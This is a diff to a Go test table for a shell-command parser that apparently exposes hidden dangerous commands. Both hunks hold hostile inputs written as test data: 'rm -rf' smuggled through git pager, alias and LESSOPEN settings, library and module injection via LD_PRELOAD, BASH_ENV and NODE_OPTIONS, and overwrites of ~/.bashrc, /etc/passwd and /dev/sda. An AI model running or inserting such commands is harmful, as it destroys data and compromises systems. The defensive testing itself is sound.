@@ -135,6 +135,11 @@ func TestParse(t *testing.T) {
 		{"git config command key", `git config --global core.pager 'rm -rf ~'`, "git config --global core.pager rm -rf ~ | rm -rf ~"},
 		{"git config shell alias", `git config alias.x '!rm -rf /'`, "git config alias.x !rm -rf / | rm -rf /"},
 		{"git config plain alias", `git config alias.st status`, "git config alias.st status"},
+		{"preloaded library", `LD_PRELOAD=/tmp/x.so ls`, "!problem | ls"},
+		{"bash startup file", `BASH_ENV=./x.sh bash -c 'echo hi'`, "!problem | echo hi"},
+		{"node required module", `NODE_OPTIONS='--require ./x.js' node app.js`, "!problem | node app.js"},
+		{"node memory option", `NODE_OPTIONS=--max-old-space-size=4096 node app.js`, "node app.js"},
+		{"less input preprocessor", `LESSOPEN='|rm -rf ~ %s' less f`, "rm -rf ~ %s | less f"},
 		{"curl output file", `curl -sSLo ~/.bashrc https://x/y`, "curl -sSLo ~/.bashrc https://x/y | (redirect) ~/.bashrc"},
 		{"wget output document", `wget --output-document=/etc/hosts https://x`, "wget --output-document=/etc/hosts https://x | (redirect) /etc/hosts"},
 		{"wget to stdout", `wget -O - https://x`, "wget -O - https://x"},
@@ -222,6 +227,9 @@ func TestParse(t *testing.T) {
 		{"append does not truncate", ">> log.txt", ""},
 		{"append is not a truncation", "echo x >> out.txt", "echo x"},
 		{"stderr to null", "rm -rf /tmp/x 2>/dev/null", "rm -rf /tmp/x"},
+		{"both to a file with >&", "echo x >& /etc/passwd", "echo x | (redirect) /etc/passwd"},
+		{"stderr to stdout", "ls 2>&1", "ls"},
+		{"close a descriptor", "ls 3>&-", "ls"},
 		{"stdout to a device", "echo x > /dev/sda", "echo x | (redirect) /dev/sda"},
 
 		// What does not parse is a problem, never silence.
